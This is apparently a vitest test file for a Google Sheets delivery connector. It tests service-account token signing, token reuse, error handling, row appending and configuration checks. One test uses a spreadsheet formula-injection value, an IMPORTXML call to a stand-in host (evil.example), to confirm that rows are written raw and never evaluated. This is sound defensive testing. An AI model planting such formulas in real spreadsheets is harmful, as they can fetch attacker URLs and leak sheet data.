import { createVerify, generateKeyPairSync } from 'node:crypto'
import type { GuardedAnswer, GuardedRequest } from '@sluice/kit/guarded-fetch'
import { ok } from '@sluice/kit/result'
import { LeasedDelivery } from '@sluice/schema/delivery'
import { aDelivery, anAnalysis, anItem, dlv, NOON } from '@sluice/testing/builders'
import { beforeEach, describe, expect, test } from 'vitest'
import type { SendPorts } from '../../src/connectors/define.ts'
import { rowOf } from '../../src/connectors/google/row.ts'
import { googleSheets } from '../../src/connectors/google-sheets.ts'

const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
const ACCOUNT = 'sluice@acme.iam.gserviceaccount.com'

interface Call extends GuardedRequest {
  url: URL
}

const nowhere = async (): Promise<never> => {
  throw new Error('not to be asked')
}

/** Google, with its clock: answers tokens by themselves, and everything else as it is told. */
function google(answer: (call: Call) => Partial<GuardedAnswer> & { json?: unknown }) {
  const calls: Call[] = []
  let time = NOON
  let tokens = 0
  const reply = ({ status = 200, headers = new Headers(), text, json }: ReturnType<typeof answer>): GuardedAnswer => ({
    status,
    headers,
    text: text ?? JSON.stringify(json),
  })
  const ports: SendPorts = {
    async fetch(address, request) {
      const call = { ...request, url: new URL(address) }
      calls.push(call)
      const isToken = call.url.hostname === 'oauth2.googleapis.com'
      if (isToken) tokens += 1
      const told = answer(call)
      return ok(isToken && told.status === undefined ? reply({ json: { access_token: `ya29.${tokens}`, expires_in: 3_600 } }) : reply(told))
    },
    now: () => time,
    connect: nowhere,
    sendEmail: null,
    queue: () => null,
    tagItem: nowhere,
  }
  return { ports, calls, tokens: () => tokens, pass: (seconds: number) => void (time += seconds * 1_000) }
}

const appended = (row: number) => ({ json: { updates: { updatedRange: `Sheet1!A${row}:H${row}` } } })
const base = { kind: 'google-sheets', spreadsheet: '1aBcDeFgHiJkLmNoPqRsTuVwXyZ012345', credentials: '${KEY}' }

/** Another one each time: tokens are remembered by the key file. */
let keyFile = ''
let files = 0
beforeEach(() => {
  files += 1
  const pem = privateKey.export({ type: 'pkcs8', format: 'pem' })
  keyFile = JSON.stringify({ type: 'service_account', client_email: ACCOUNT, private_key: pem, private_key_id: `key-${files}` })
})

const leased = (content: Partial<LeasedDelivery['content']> = {}): LeasedDelivery => {
  const data = { item: anItem(), analysis: anAnalysis(), rule: { name: 'r' }, decidedAt: new Date(NOON).toISOString() }
  return LeasedDelivery.parse({
    ...aDelivery({ content: { title: 'Bug: export', text: 'Half of them.', options: {}, data, ...content } }),
    attempt: 1,
    leaseUntil: NOON,
    uncertain: false,
    lead: null,
  })
}

async function open(ports: SendPorts, config: object = base, delivery = leased()) {
  const opened = await googleSheets.open(delivery, { ...config }, async (text) => (text === '${KEY}' ? keyFile : text), ports)
  if (!opened.ok) throw new Error(opened.failure)
  return opened.value
}
const send = async (...args: Parameters<typeof open>) => (await open(...args)).send()

describe('a service account', () => {
  test('asks for a token with a statement that its own key has signed', async () => {
    const { ports, calls } = google(() => appended(2))
    await send(ports)
    const form = new URLSearchParams(calls[0]?.body)
    const [header = '', claims = '', signature = ''] = (form.get('assertion') ?? '').split('.')
    expect(createVerify('RSA-SHA256').update(`${header}.${claims}`).verify(publicKey, signature, 'base64url')).toBe(true)
    expect(JSON.parse(Buffer.from(header, 'base64url').toString())).toEqual({ alg: 'RS256', typ: 'JWT', kid: `key-${files}` })
    expect(JSON.parse(Buffer.from(claims, 'base64url').toString())).toEqual({
      iss: ACCOUNT,
      scope: 'https://www.googleapis.com/auth/spreadsheets',
      aud: 'https://oauth2.googleapis.com/token',
      iat: NOON / 1_000,
      exp: NOON / 1_000 + 3_600,
    })
    expect(calls[1]?.headers['authorization']).toBe('Bearer ya29.1')
  })

  test('uses its token until a minute before its end', async () => {
    const { ports, tokens, pass } = google(() => appended(2))
    await send(ports)
    pass(3_539)
    await send(ports)
    expect(tokens()).toBe(1)
    pass(1)
    await send(ports)
    expect(tokens()).toBe(2)
  })

  test('whose token was taken away gets another one, once', async () => {
    const refusing = new Set(['Bearer ya29.1'])
    const { ports, tokens } = google(({ headers }) =>
      refusing.has(headers['authorization'] ?? '') ? { status: 401, text: 'no' } : appended(2),
    )
    expect(await send(ports)).toMatchObject({ kind: 'denied', status: 401 })
    expect(await send(ports)).toMatchObject({ kind: 'delivered' })
    expect(tokens()).toBe(2)
    refusing.add('Bearer ya29.2').add('Bearer ya29.3')
    expect(await send(ports)).toMatchObject({ kind: 'denied', status: 401 })
  })

  test.each([
    [400, 'denied', 'Google refuses the service account: invalid_grant, Invalid JWT Signature.'],
    [401, 'denied', 'Google refuses the service account: invalid_grant, Invalid JWT Signature.'],
    [429, 'retry', undefined],
    [500, 'retry', undefined],
    [503, 'retry', undefined],
  ])('that gets %i instead of a token is %s: nothing was sent', async (status, kind, detail) => {
    const text = JSON.stringify({ error: 'invalid_grant', error_description: 'Invalid JWT Signature.' })
    const { ports, calls } = google(() => ({ status, text }))
    expect(await send(ports)).toMatchObject({ kind, status, ...(detail !== undefined && { detail }) })
    expect(calls).toHaveLength(1)
  })

  test.each([
    ['no JSON', 'secret', 'credentials must be the JSON key file of a service account, with client_email and private_key'],
    [
      'no key file',
      '{"type":"authorized_user"}',
      'credentials must be the JSON key file of a service account, with client_email and private_key',
    ],
    [
      'a broken key',
      JSON.stringify({ client_email: ACCOUNT, private_key: '-----BEGIN PRIVATE KEY-----\n!!\n-----END PRIVATE KEY-----\n' }),
      'private_key in the key file cannot be read; download the file again',
    ],
  ])('given as %s pauses the destination and says what to do', async (_, given, detail) => {
    keyFile = given
    const { ports, calls } = google(() => appended(2))
    expect(await send(ports)).toEqual({ kind: 'denied', detail })
    expect(calls).toEqual([])
  })
})

describe('a row', () => {
  test('is appended with the columns of feedback, and nothing in it is a formula', async () => {
    const { ports, calls } = google(() => appended(12))
    const item = anItem({ text: '=IMPORTXML("https://evil.example","//a")', url: 'https://example.com/1' })
    const delivery = leased({ data: { item, analysis: anAnalysis() } })
    expect(await send(ports, base, delivery)).toMatchObject({
      kind: 'delivered',
      externalId: 'row 12',
      externalUrl: 'https://docs.google.com/spreadsheets/d/1aBcDeFgHiJkLmNoPqRsTuVwXyZ012345/edit',
    })
    const { url, body } = calls[1] ?? {}
    expect(url?.pathname).toBe('/v4/spreadsheets/1aBcDeFgHiJkLmNoPqRsTuVwXyZ012345/values/A1:append')
    expect(url?.searchParams.get('valueInputOption')).toBe('RAW')
    expect(JSON.parse(body ?? '')).toEqual({
      majorDimension: 'ROWS',
      values: [
        [
          '2026-01-02T03:04:05.000Z',
          'survey',
          'Bug: export',
          '=IMPORTXML("https://evil.example","//a")',
          'negative',
          'bug',
          'https://example.com/1',
          dlv(1),
        ],
      ],
    })
  })

  test('has numbers as numbers, lists as text, and nothing where there is nothing', () => {
    const columns = ['analysis.sentiment.score', 'item.author.bot', 'item.hashtags', 'item.attributes', 'item.nothing.at.all', 'url', 'id']
    const item = anItem({ author: { id: 'u', bot: true }, hashtags: ['a', 'b'], attributes: { plan: 'pro' } })
    expect(rowOf(leased({ data: { item, analysis: anAnalysis() } }), columns)).toEqual([
      -0.6,
      true,
      'a, b',
      '{"plan":"pro"}',
      '',
      '',
      dlv(1),
    ])
  })

  test('of a digest or a notice, which have no item, holds what there is', () => {
    expect(rowOf(leased({ data: {} }), ['time', 'source', 'title', 'text', 'message', 'id'])).toEqual([
      '',
      '',
      'Bug: export',
      'Half of them.',
      'Half of them.',
      dlv(1),
    ])
  })

  test('never reaches for what is not data', () => {
    expect(rowOf(leased(), ['item.constructor.name', 'item.__proto__', 'item.text.length'])).toEqual(['', '', ''])
  })

  test('that is refused says whom the spreadsheet has to be shared with', async () => {
    const { ports } = google(({ url }) =>
      url.hostname.startsWith('oauth2') ? {} : { status: 403, text: 'The caller does not have permission' },
    )
    expect(await send(ports)).toEqual({
      kind: 'denied',
      status: 403,
      detail: `share the spreadsheet with ${ACCOUNT} as an editor, and see that the Sheets API is enabled: The caller does not have permission`,
    })
  })
})

/** A sheet of a length, with what stands in its column of ids. */
const sheets = (rowCount: number, ids: string[]) =>
  google(({ url }) =>
    url.pathname.includes('/values/')
      ? { json: { values: [ids] } }
      : { json: { sheets: [{ properties: { title: 'Feedback', gridProperties: { rowCount } } }] } },
  )

describe('an earlier try', () => {
  test('is found by its id in the column of ids', async () => {
    const { ports, calls } = sheets(1_000, ['id', dlv(3), dlv(1)])
    expect(await (await open(ports)).findExisting?.()).toMatchObject({ ok: true, value: { externalId: 'row 3' } })
    expect(decodeURIComponent(calls[2]?.url.pathname ?? '')).toMatch(/\/values\/'Feedback'!H1:H1000$/)
  })

  test('is not looked for further back than it can be', async () => {
    const { ports, calls } = sheets(200_000, [dlv(1)])
    expect(await (await open(ports)).findExisting?.()).toMatchObject({ ok: true, value: { externalId: 'row 150001' } })
    expect(decodeURIComponent(calls[2]?.url.pathname ?? '')).toMatch(/H150001:H200000$/)
  })

  test('in a sheet that is not there any more is no answer', async () => {
    const { ports } = sheets(10, [])
    expect(await (await open(ports, { ...base, sheet: 'Other' })).findExisting?.()).toEqual({
      ok: false,
      failure: { kind: 'rejected', detail: 'the spreadsheet has no sheet Other' },
    })
  })
})

const issues = (more: object) => googleSheets.checkConfig({ ...base, ...more }, false).map(({ path, message }) => `${path}: ${message}`)

describe('the configuration', () => {
  test('may name columns and paths', () => {
    expect(issues({ sheet: "Users' voices", columns: ['id', 'message', 'item.attributes.plan', 'analysis.sentiment.score'] })).toEqual([])
  })

  test('needs the id, by which an earlier try is found', () => {
    expect(issues({ columns: ['text'] })).toEqual(['columns: must hold id, by which an earlier try is found'])
  })

  test('knows no other columns', () => {
    expect(issues({ columns: ['id', 'secrets.KEY'] })).toEqual([expect.stringMatching(/^columns\.1: must be one of time, source,/)])
  })
})
